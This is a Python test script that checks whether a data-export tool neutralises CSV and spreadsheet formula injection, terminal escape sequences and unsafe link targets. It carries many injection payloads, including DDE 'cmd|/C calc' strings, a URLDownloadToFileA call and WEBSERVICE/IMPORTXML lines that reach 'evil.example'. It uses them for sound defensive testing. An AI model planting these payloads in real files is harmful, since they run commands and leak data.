"""Texts that a spreadsheet or a terminal would run, in every field that can hold one, in all that
factpack writes."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import tempfile
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

HERE = Path(__file__).parent
sys.path[:0] = [str(HERE.parent), str(HERE.parent / "tests")]
from faults import Warm  # noqa: E402
from made.packs import FIGURES, dossier  # noqa: E402
from made.templates import template_folder  # noqa: E402
from measured import Measured  # noqa: E402

TRIGGERS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\t", "\t=")
LEADING = (
    "",
    " ",
    "\u00a0",
    "\u200b",
    "\ufeff",
    "\u3000",
    "\u2060",
    "\n",
    "\r\n",
    "x\n",
    "a;",
    "a\t",
)
CALLS = (
    "cmd|'/C calc'!A0",
    'HYPERLINK("https://evil.example","click")',
    'WEBSERVICE("https://evil.example/"&A1)',
)
MORE = (
    '=IMPORTXML("https://evil.example","//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=2+5+cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=IF(1=1,"yes","no")',
    "'=1+1",
    "''=1+1",
    '"=1+1',
    '";=1+1;"',
    "=1+1;=2+2",
    "-1+1|cmd",
    "+1 555 cmd",
    "--1",
    "=",
    "@",
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"https://evil.example","x",0,0)',
    '=EXEC("calc")',
    '=REGISTER("kernel32","WinExec","JCJ","W",,1,9)',
    "sep=;\n=1+1",
    "ok\r=1+1",
)
PAYLOADS = tuple(
    dict.fromkeys(
        [f"{lead}{trigger}{call}" for n, (lead, trigger) in enumerate(
            (lead, trigger) for lead in LEADING for trigger in TRIGGERS
        ) for call in (CALLS[n % len(CALLS)],)]
        + list(MORE)
    )
)  # fmt: skip
NUMBERS = ("-2.02", "+5", "-1,000.5", "+3 %", "-0")
BLANK = " \u00a0\u1680\u2000-\u200f\u2028-\u202f\u205f-\u2064\u3000\ufeff"
# Where any program would see a formula: the oracle's own words, not factpack's.
RUNS = re.compile(rf"(?:^|[\r\n;\t])[{BLANK}]*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]")
SIGNED = re.compile(r"[-+]\d[\d.,' \u00a0\u202f]*%?")
ESCAPES = (
    "\x1b[2J",
    "\x1b]0;x\x07",
    "\x9b31m",
    "\u202eabc",
    "a\rb",
    "\x1b]8;;https://evil.example\x07",
)
ADDRESSES = (
    *(
        "javascript:alert(1)",
        "file:///C:/x",
        "\\\\evil\\share",
        "ms-excel:ofe|u|https://evil.example",
    ),
    *("data:text/html,x", "vbscript:x", " https://example.com/a", "https://example.com/b"),
)


def measured(full: bool) -> Iterator[Measured]:
    with tempfile.TemporaryDirectory() as name:
        root = Path(name).resolve()
        facts = [
            {"id": f"p{n:03}", "value_text": text[:200] or "x", "note": text, "quote": text}
            for n, text in enumerate((*PAYLOADS, *NUMBERS))
        ]
        made = dossier(root / "d", facts, may="whole")
        folder = template_folder(root / "t", {"figures": FIGURES})
        warm = Warm()
        for args in (
            ["export", str(made), "--template", str(folder), "-o", f"{root}/p", "--allow-errors"],
            ["check", str(made), "--mark", f"{root}/marked"],
            ["workbook", str(made), "-o", f"{root}/w.xlsx"],
            ["sql", str(made), "select id, note from facts order by id", "--format", "csv",
             "-o", f"{root}/a.csv"],
            ["sql", str(made), "select coalesce(value_text, quote) as Said, note from facts "
             "order by id", "--format", "json", "-o", f"{root}/held.json"],
        ):  # fmt: skip
            ended = warm.plain(args, root)
            assert ended.code in (0, 1), ended
        yield _csvs(root)
        yield _workbooks(root)
        yield _terminal(root, warm)
        yield _links(root, warm)
        warm.close()


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def _csvs(root: Path) -> Measured:
    from toolkit.guarding import unguarded

    told = json.loads((root / "p" / "manifest.json").read_text("utf-8"))
    right, of, why = 0, 0, []
    held = json.loads((root / "held.json").read_text("utf-8"))  # as the dossier has them
    for text in (*PAYLOADS, *NUMBERS):
        for wrote in _written(text):
            of += 1
            safe = SIGNED.fullmatch(wrote) if text in NUMBERS else not RUNS.search(wrote)
            fine = safe and (wrote if text in NUMBERS else unguarded(wrote)) == text
            right += bool(fine)
            if not fine:
                why.append(f"{text!r} is written as {wrote!r}")
    places: Mapping[str, tuple[list[dict[str, str]], str]] = {
        "csv/figures.csv": (_rows(root / "p" / "csv" / "figures.csv"), "Said"),
        "sql --format csv": (_rows(root / "a.csv"), "note"),
    }
    for place, (rows, column) in places.items():
        for n, row in enumerate(rows):
            text, given = row[column], held[n][column] or ""
            of += 1
            wrong = ""
            if given in NUMBERS and text != given:
                wrong = "a number was touched"
            elif RUNS.search(text) and not SIGNED.fullmatch(text):
                wrong = "it would run"
            elif unguarded(text) != given and text != given:
                wrong = f"it does not come back: {unguarded(text)!r}"
            elif place.startswith("csv/") and text != given:
                marked = {
                    (each["record"], each["column"])
                    for q in told["queries"]
                    for each in q["guarded"]
                }
                wrong = "" if (n + 1, column) in marked else "the manifest does not tell it"
            right += not wrong
            if wrong:
                why.append(f"{place}: {given!r}: {wrong}")
    for listed in (root / "marked").glob("*.csv"):
        with listed.open(encoding="utf-8-sig", newline="") as file:
            for row in csv.reader(file):
                for field in row:
                    of += 1
                    bad = bool(RUNS.search(field)) and not SIGNED.fullmatch(field)
                    right += not bad
                    if bad:
                        why.append(f"{listed.name}: {field[:60]!r} would run")
    return Measured(
        "Injection payloads in CSVs neutralised and reversed",
        right,
        of,
        f"{len(PAYLOADS)} payloads of our own (every trigger behind every blank, line end and "
        "separator; DDE, HYPERLINK, WEBSERVICE, macros) and signed numbers, as facts: in a pack's "
        "CSV, in answers of SQL and in every field of lists of findings. Right: nothing in it "
        "would run, the rule gives the text back, numbers are untouched, the manifest tells it.",
        tuple(why),
    )


def _written(text: str) -> Iterator[str]:
    """The text as the core writes it into a pack's CSV and into a list of findings."""
    from toolkit.pack.rows.csvfile import as_csv

    data, _ = as_csv(["A"], [(text,)])
    yield list(csv.reader(io.StringIO(data.decode(), newline="")))[1][0]


def _workbooks(root: Path) -> Measured:
    """No formula but the template's, and every payload a text."""
    import openpyxl

    right, of, why = 0, 0, []
    books = {"pack": next((root / "p").glob("*.xlsx")), "workbook": root / "w.xlsx"}
    own = {"pack": root / "t" / "template.xlsx"}
    for name, path in books.items():
        formulas = _formulas(path)
        allowed = _formulas(own[name]) if name in own else None
        texts = {
            cell.value
            for sheet in openpyxl.load_workbook(path).worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type in ("s", "inlineStr", "str")
        }
        for text in map(str.strip, _held(root)):
            of += 1
            runs = any("evil" in each or "cmd|" in each for each in formulas)
            there = any(_same(each, text) for each in texts) or text.strip() == ""
            right += there and not runs
            if not there or runs:
                why.append(f"{name}: {text!r} {'runs' if runs else 'is not there as text'}")
        if allowed is not None and len(formulas) > len(allowed) + len(PAYLOADS) + len(NUMBERS):
            why.append(f"{name}: formulas that the template has not")
    return Measured(
        "Injection payloads in workbooks that stay texts",
        right,
        of,
        "the same payloads in a pack and in an analysts' workbook: each stands there to the letter "
        "as a text cell, and no formula holds any of it.",
        tuple(why),
    )


def _held(root: Path) -> list[str]:
    return [one["Said"] or "" for one in json.loads((root / "held.json").read_text("utf-8"))]


def _same(there: Any, text: str) -> bool:
    plain = "\n".join(str(there).replace("_x000D_", "\r").split("\r\n"))
    return plain.strip() == text.replace("\r\n", "\n").strip() or str(there) == text


def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        found = [re.findall(r"<f[^>]*>([^<]*)</f>", package.read(n).decode()) for n in sheets]
    return [each for some in found for each in some]


def _terminal(root: Path, warm: Warm) -> Measured:
    """No control character of a cell reaches standard output or error."""
    right, of, why = 0, 0, []
    payload = "".join(ESCAPES)
    facts = [{"id": "f1", "value": 1, "unit": "USD", "kind": payload, "note": payload,
              "quote": payload}]  # fmt: skip
    made = dossier(root / "e", facts)
    (made / "sources" / "s.md").write_text(f"It says {payload} 5 million dollars.\n", "utf-8")
    (root / "other.jsonl").write_text('{"id": "f1"}\n', "utf-8")
    commands: Mapping[str, list[str]] = {
        "check": ["check", str(made)],
        "check --format json": ["check", str(made), "--format", "json"],
        "sql": ["sql", str(made), "select note, quote from facts"],
        "sql --format json": ["sql", str(made), "select note from facts", "--format", "json"],
        "draft": ["draft", str(made), "s"],
        "open-figures": ["open-figures", str(made)],
        "lock-quotes": ["lock-quotes", str(made)],
        "diff": ["diff", f"{made}/facts/facts.jsonl", f"{root}/d/facts/facts.jsonl"],
        "diff --textconv": ["diff", "--textconv", f"{made}/facts/facts.jsonl"],
        "figures": ["figures", f"5 million {payload}", "-l", "en"],
        "an error": ["check", f"{root}/{ESCAPES[0]}"],
        "source add": ["source", "add", str(made), str(made / "sources" / "s.md"), "--title",
                       payload, "--language", "en", "--id", "t"],
    }  # fmt: skip
    harmful = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
    for name, args in commands.items():
        ended = warm.plain(args, root)
        raw = (root / "home" / "out").read_bytes() + (root / "home" / "err").read_bytes()
        of += 1
        bad = harmful.search(raw.decode("utf-8", "replace"))
        wrong = repr(bad[0]) if bad else ("a traceback" if "Traceback" in ended.err else "")
        right += not wrong
        if wrong:
            why.append(f"{name}: {wrong}")
    return Measured(
        "Commands that pass no control character of a cell to a terminal",
        right,
        of,
        "escapes that clear the screen, set its title, make links, and characters that turn the "
        "direction of writing, in facts, sources and arguments of commands.",
        tuple(why),
    )


def _links(root: Path, warm: Warm) -> Measured:
    """Links in a pack lead to the web or within the workbook."""
    facts = [
        {"id": f"a{n}", "value": 1, "unit": "USD", "note": each} for n, each in enumerate(ADDRESSES)
    ]
    made = dossier(root / "l", facts)
    folder = template_folder(root / "tl", {"figures": FIGURES})
    toml = (folder / "template.toml").read_text("utf-8")
    (folder / "template.toml").write_text(f'addresses = ["Said"]\n{toml}', "utf-8")
    said = FIGURES.replace("coalesce(f.value_text, f.quote)", "f.note")
    (folder / "figures.sql").write_text(said, "utf-8")
    ended = warm.plain(
        ["export", str(made), "--template", str(folder), "-o", f"{root}/lp", "--allow-errors"], root
    )
    assert ended.code == 0, ended
    path = next((root / "lp").glob("*.xlsx"))
    with zipfile.ZipFile(path) as package:
        rels = [package.read(n).decode() for n in package.namelist() if n.endswith(".rels")]
    targets = [
        t for each in rels for t in re.findall(r'Target="([^"]*)" TargetMode="External"', each)
    ]
    bad = [t for t in targets if not t.startswith(("http://", "https://", "mailto:"))]
    of = len(ADDRESSES)
    return Measured(
        "Addresses in packs that lead only to the web",
        of - len(bad),
        of,
        "addresses of scripts, files, shares and programs in a column of addresses: only http, "
        f"https and mailto become links ({len(targets)} here), the others stay texts.",
        tuple(f"{each} is a link" for each in bad),
    )


Check = Callable[[Path], Measured]

if __name__ == "__main__":
    print(len(PAYLOADS), "payloads")
    for line in measured("--full" in sys.argv):
        print(f"{line.what}: {line.right} of {line.of}", *line.why[:12], sep="\n  ")
